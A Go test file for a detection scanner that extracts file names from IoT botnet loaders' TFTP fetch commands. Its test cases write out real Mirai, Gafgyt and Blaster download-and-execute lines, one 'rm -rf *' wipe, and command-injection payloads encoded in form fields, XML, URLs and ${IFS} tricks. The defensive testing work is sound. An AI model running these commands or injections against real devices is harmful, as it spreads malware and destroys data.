package signatures

import (
	"slices"
	"strings"
	"testing"
)

// fetched lists what the scanner finds, long names marked with a "+".
func fetched(p []byte) []string { return fetchedAll(p, false) }

// fetchedAll is fetched; slow turns off the skip to the next "tftp" in
// plain payloads, which must change nothing.
func fetchedAll(p []byte, slow bool) []string {
	var f fetchScanner
	f.reset(p)
	if slow {
		f.plain = false
	}
	var out []string
	for {
		name, long, ok := f.next()
		if !ok {
			return out
		}
		s := string(name)
		if long {
			s += "+"
		}
		out = append(out, s)
	}
}

// TestFetchScanner: the file names the loaders' published command lines
// fetch, in the forms they are sent: typed into telnet, in HTTP exploit
// request lines and bodies (URL-encoded, ${IFS}, quoted, in JSON and
// XML), and nothing where a name appears outside a fetch command.
func TestFetchScanner(t *testing.T) {
	for _, c := range []struct {
		name, in string
		want     string // names, space-separated
	}{
		// Mirai's loader (loader/src/server.c) and its forks, which
		// rename the dropper and the bot.
		{"mirai", "/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper; /bin/busybox ECCHI\r\n", "mirai.arm7"},
		{"sora", "/bin/busybox tftp -g -l 19ju3d -r sora.mpsl 198.51.100.4; /bin/busybox chmod 777 19ju3d; /bin/busybox AK1K2\r\n", "sora.mpsl"},
		{"shinto", "/bin/busybox tftp -g -l WsGA4@F6F -r shinto.arm5 198.51.100.4; /bin/busybox chmod 777 WsGA4@F6F\r\n", "shinto.arm5"},
		{"renamed dropper", "busybox tftp -g -l .x -r mirai.mips 10.0.0.9\n", "mirai.mips"},
		{"no -r: -l is fetched", "tftp -g -l mirai.x86 10.0.0.9", "mirai.x86"},
		{"cluster", "tftp -gr mirai.sh4 10.0.0.9", "mirai.sh4"},
		{"attached value", "tftp -g -rmirai.ppc 10.0.0.9", "mirai.ppc"},
		{"options after host", "tftp 10.0.0.9 -g -r mirai.arm", "mirai.arm"},
		{"host between", "tftp -g 107.175.31.130 -r tftp1.sh; chmod 777 *; sh tftp1.sh", "tftp1.sh"},
		{"last -r wins", "tftp -g -r a.sh -r b.sh h", "b.sh"},
		{"atftp long options", "atftp --get --remote-file mirai.m68k --local-file x 10.0.0.9", "mirai.m68k"},
		{"atftp long =", "atftp --get --remote-file=mirai.spc 10.0.0.9", "mirai.spc"},
		{"upper-case command", "/BIN/BUSYBOX TFTP -g -r mirai.arm7 h", "mirai.arm7"},
		{"path to client", "/usr/bin/tftp -g -r x.sh h", "x.sh"},
		{"path in name", "tftp -g -r /bins/sora.m68k -l /tmp/s h", "/bins/sora.m68k"},
		// Gafgyt's infect line, and forks that prefix the scripts.
		{"gafgyt", "cd /tmp || cd /var/run || cd /mnt || cd /root || cd /; wget http://10.0.0.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 10.0.0.9 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; tftp -r tftp2.sh -g 10.0.0.9; chmod 777 tftp2.sh; sh tftp2.sh; ftpget -v -u anonymous -p anonymous -P 21 10.0.0.9 ftp1.sh ftp1.sh; sh ftp1.sh; rm -rf bins.sh tftp1.sh tftp2.sh ftp1.sh; rm -rf *\r\n", "tftp1.sh tftp2.sh"},
		{"gafgyt busybox", "cd /tmp; wget http://198.51.100.4/bins.sh || curl -O http://198.51.100.4/bins.sh; chmod 777 bins.sh; sh bins.sh; busybox tftp 198.51.100.4 -c get tftp1.sh; chmod 777 tftp1.sh; sh tftp1.sh; busybox tftp -r tftp2.sh -g 198.51.100.4; chmod 777 tftp2.sh", "tftp1.sh tftp2.sh"},
		{"prefixed", "cd /tmp || cd /run || cd /; wget http://198.51.100.4/axisbins.sh; sh axisbins.sh; tftp 198.51.100.4 -c get axistftp1.sh; sh axistftp1.sh; tftp -r axistftp2.sh -g 198.51.100.4; sh axistftp2.sh", "axistftp1.sh axistftp2.sh"},
		{"prefixed odd", "tftp 198.51.100.4 -c get obas!tftp1.sh; tftp -r obas!tftp2.sh -g 198.51.100.4", "obas!tftp1.sh obas!tftp2.sh"},
		{"-c get host:file", "tftp -c get 10.0.0.9:x.sh", "10.0.0.9:x.sh"},
		{"-cget", "tftp 10.0.0.9 -cget y.sh", "y.sh"},
		// Blaster's command to the shell on 4444, and Windows forms.
		{"blaster", "tftp -i 10.0.0.9 GET msblast.exe\n", "msblast.exe"},
		{"windows exe", `C:\WINDOWS\system32\tftp.exe -i 10.0.0.9 get penis32.exe c:\x.exe`, "penis32.exe"},
		{"windows put", "tftp -i 10.0.0.9 PUT msblast.exe", ""},
		// Separators, quoting, encodings.
		{"&&", "cd /tmp&&tftp -g -r a.sh 1.2.3.4&&sh a.sh", "a.sh"},
		{"pipe", "tftp -g -r a.sh 1.2.3.4|sh", "a.sh"},
		{"backticks", "<NewInternalClient>`cd /tmp;tftp -g -r b.sh 1.2.3.4`</NewInternalClient>", "b.sh"},
		{"$()", "<NewStatusURL>$(/bin/busybox tftp -g -r c.sh -l /tmp/c 1.2.3.4)</NewStatusURL>", "c.sh"},
		{"quoted", `tftp -g -r "mirai.arm7" '10.0.0.9'`, "mirai.arm7"},
		{"json", `{"cmd":"tftp -g -r j.sh 1.2.3.4","x":1}`, "j.sh"},
		{"json array", `["tftp -g -r j1.sh h", "tftp -g -r j2.sh h"]`, "j2.sh"},
		{"form value", "ping_addr=;tftp+-g+-r+f.sh+1.2.3.4;sh+f.sh&submit=1", "f.sh"},
		{"cmd=", "cmd=tftp+-g+-r+mirai.arm7+1.2.3.4", "mirai.arm7"},
		{"plus", "GET /shell?cd+/tmp;busybox+tftp+-r+tftp2.sh+-g+10.0.0.9;sh+tftp2.sh HTTP/1.1\r\nHost: x\r\n\r\n", "tftp2.sh"},
		{"percent", "pingAddr=%3bbusybox+tftp+-g+-r+swJaf+-l+/var/swJaf+ilikemy.clouds+69%3bcd+/var", "swJaf"},
		{"percent space", "%22%20%24(tftp%20-g%20-r%20pack.tar%20-l%20%2Fmnt%2Fjffs2%2Fp.tar%2010.0.0.9)%22", "pack.tar"},
		{"encoded letters", "t%66tp -g -r %6dirai.arm7 h", "mirai.arm7"},
		{"%2B is a plus", "tftp%20-g%20-r%20a%2Bb.sh%20h", "a+b.sh"},
		{"IFS", "cd${IFS}/tmp;tftp${IFS}-g${IFS}-r${IFS}i.sh${IFS}1.2.3.4", "i.sh"},
		{"IFS$9", "tftp$IFS$9-g$IFS$9-r$IFS$9k.sh$IFS$9h", "k.sh"},
		{"IFS%??", "tftp${IFS%??}-g${IFS%??}-r${IFS%??}q.sh${IFS%??}h", "q.sh"},
		{"$IFSX is a variable", "tftp -g -r a$IFSX.sh h", "a$IFSX.sh"},
		{"$1 joins", "tf$1tp -g -r m$2irai.arm7 h", "mirai.arm7"},
		{"telnet IAC", "\xff\xfd\x01\xff\xfb\x03tftp -g -r t\xff\xf1.sh h\r\x00", "t.sh"},
		{"telnet SB", "\xff\xfa\x18\x00xterm\xff\xf0tftp -g -r s.sh h", "s.sh"},
		{"telnet IAC IAC", "tftp -g -r a\xff\xff h", "a\xff"},
		{"tab and CRLF", "tftp\t-g\t-r\tw.sh\th\r\nsh w.sh\r\n", "w.sh"},
		// Not fetches, and names outside fetch commands.
		{"no -g", "tftp -r mirai.arm7 10.0.0.9", ""},
		{"put", "tftp -p -l mirai.arm7 -r mirai.arm7 10.0.0.9", ""},
		{"separator ends the command", "tftp -g 1.2.3.4; -r mirai.arm7", ""},
		{"wget", "wget http://10.0.0.9/mirai.arm7 -O x; chmod 777 x", ""},
		// Mozi spreads by HTTP (wget of Mozi.m), Hajime by echoing its stub:
		// no TFTP fetch in either.
		{"mozi", "GET /setup.cgi?next_file=netgear.cfg&todo=syscmd&cmd=rm+-rf+/tmp/*;wget+http://10.0.0.9:8088/Mozi.m+-O+/tmp/netgear;sh+netgear&curpath=/&currentsetting.htm=1 HTTP/1.0\r\n\r\n", ""},
		{"hajime", "enable\r\nsystem\r\nshell\r\nsh\r\n/bin/busybox ECCHI\r\n", ""},
		{"name alone", "GET /bins/tftp1.sh HTTP/1.1\r\nHost: example\r\n\r\n", ""},
		{"path contains tftp", "GET /cgi-bin/tftp?r=mirai.arm7&g=1 HTTP/1.1\r\n", ""},
		{"tftpd", "tftpd -g -r mirai.arm7", ""},
		{"mytftp", "mytftp -g -r mirai.arm7 h", ""},
		{"tftp as a name", "GET /tftp1.sh -g -r x HTTP/1.1", ""},
		{"hpa other verb", "tftp 1.2.3.4 -c put x.sh", ""},
		{"hpa get nothing", "tftp 1.2.3.4 -c get", ""},
		{"value of -l is not a GET", "tftp -i -l get x.exe", ""},
		{"text", "Tftp is a protocol; use tftp -g to get files.", ""},
		{"empty", "", ""},
		{"IAC at end", "tftp -g -r a\xff", "a"},
		{"unterminated SB", "tftp -g -r a \xff\xfa\x18xterm", "a"},
		{"long", "tftp -g -r " + strings.Repeat("a", 300) + " h", strings.Repeat("a", maxFetchName) + "+"},
	} {
		got := strings.Join(fetched([]byte(c.in)), " ")
		if got != c.want {
			t.Errorf("%s: %q\n got %q\nwant %q", c.name, c.in, got, c.want)
		}
		if slow := strings.Join(fetchedAll([]byte(c.in), true), " "); slow != got {
			t.Errorf("%s: %q without the skip: %q", c.name, c.in, slow)
		}
		if c.want != "" && !mayFetch([]byte(c.in)) {
			t.Errorf("%s: mayFetch false", c.name)
		}
	}
}

// FuzzFetchScanner: the scanner never panics, never returns a name longer
// than it keeps, and mayFetch never says no to a payload it finds a
// command in.
func FuzzFetchScanner(f *testing.F) {
	for _, s := range []string{
		"/bin/busybox tftp -g -l dvrHelper -r mirai.arm7 10.0.0.9; /bin/busybox chmod 777 dvrHelper\r\n",
		"tftp 10.0.0.9 -c get tftp1.sh; tftp -r tftp2.sh -g 10.0.0.9",
		"tftp -i 10.0.0.9 GET msblast.exe",
		"busybox+tftp+-r+tftp2.sh+-g+10.0.0.9",
		"%22%20%24(tftp%20-g%20-r%20pack.tar%20-l%20%2Fmnt%2Fp.tar%2010.0.0.9)%22",
		"tftp${IFS}-g${IFS}-r${IFS}i.sh$IFS$9h",
		"\xff\xfd\x01\xff\xfa\x18\x00x\xff\xf0tftp -g -r t\xff\xf1.sh h",
		"atftp --get --remote-file=x h",
		"t%66tp -gr%20a h",
	} {
		f.Add([]byte(s))
	}
	f.Fuzz(func(t *testing.T, p []byte) {
		names := fetched(p)
		if slow := fetchedAll(p, true); !slices.Equal(slow, names) {
			t.Fatalf("%q: %q, without the skip %q", p, names, slow)
		}
		for _, n := range names {
			if len(strings.TrimSuffix(n, "+")) > maxFetchName {
				t.Fatalf("name of %d bytes", len(n))
			}
			// A name is one word: decoded spaces, quotes and separators
			// end it, whatever encoding they came in.
			for i := 0; i < len(n); i++ {
				if c := n[i]; isShellSpace(c) || isShellSep(c) {
					t.Fatalf("name %q of %q holds %q", n, p, c)
				}
			}
		}
		if len(names) > 0 && !mayFetch(p) {
			t.Fatalf("mayFetch false for %q, which fetches %q", p, names)
		}
	})
}

// TestCommandRules: a command rule matches the fetch of a name its
// signature lists (strong), an any-name rule a fetch no listing rule for
// the port claims (weak); a name outside a fetch command matches nothing;
// one packet fetching two loaders' files is evidence for both.
func TestCommandRules(t *testing.T) {
	s, err := Parse("cmd.yaml", []byte(`serial: 1
signatures:
  - id: loader-a
    family: A
    tftp_files: ["aa.*", "*a.sh"]
    payloads:
      - {proto: tcp, port: 23, command: tftp}
      - {proto: tcp, port: 80, command: tftp}
  - id: loader-b
    family: B
    tftp_files: [b.sh]
    payloads:
      - {proto: tcp, port: 23, command: tftp}
  - id: listed-elsewhere
    family: C
    tftp_files: [c.exe]
  - id: generic
    family: Generic
    payloads:
      - {proto: tcp, port: 23, command: tftp, evidence: weak}
      - {proto: tcp, port: 80, command: tftp, evidence: weak}
`))
	if err != nil {
		t.Fatal(err)
	}
	for _, c := range []struct {
		port uint16
		in   string
		want string // signature:evidence ...
	}{
		{23, "tftp -g -r aa.mips h", "loader-a:strong"},
		{23, "tftp -g -r /x/AA.MIPS h", "loader-a:strong"},
		{23, "tftp h -c get prefixa.sh", "loader-a:strong"},
		{23, "tftp -g -r b.sh h; tftp -g -r aa.x h", "loader-b:strong loader-a:strong"},
		{23, "tftp -g -r b.sh h; tftp -g -r b.sh h", "loader-b:strong"},
		{23, "tftp -g -r x.sh h", "generic:weak"},
		{23, "tftp -g -r c.exe h", "generic:weak"}, // listed, but no rule for it here
		{23, "tftp -g -r x.sh h; tftp -g -r aa.1 h", "generic:weak loader-a:strong"},
		{80, "GET /?c=tftp+-g+-r+b.sh+h HTTP/1.1", "generic:weak"}, // loader-b does not look at 80
		{80, "GET /?c=tftp+-g+-r+a.sh+h HTTP/1.1", "loader-a:strong"},
		{23, "tftp -g -r " + strings.Repeat("a", 300) + " h", "generic:weak"},
		{23, "cat aa.mips b.sh; echo tftp", ""},
		{80, "GET /aa.mips HTTP/1.1", ""},
		{2323, "tftp -g -r aa.mips h", ""},
	} {
		var got []string
		s.MatchPayloads(TCP, c.port, []byte(c.in), func(m PayloadMatch) bool {
			got = append(got, m.Signature.ID+":"+m.Payload.Evidence.String())
			return true
		})
		if g := strings.Join(got, " "); g != c.want {
			t.Errorf("%d %q:\n got %s\nwant %s", c.port, c.in, g, c.want)
		}
	}
}
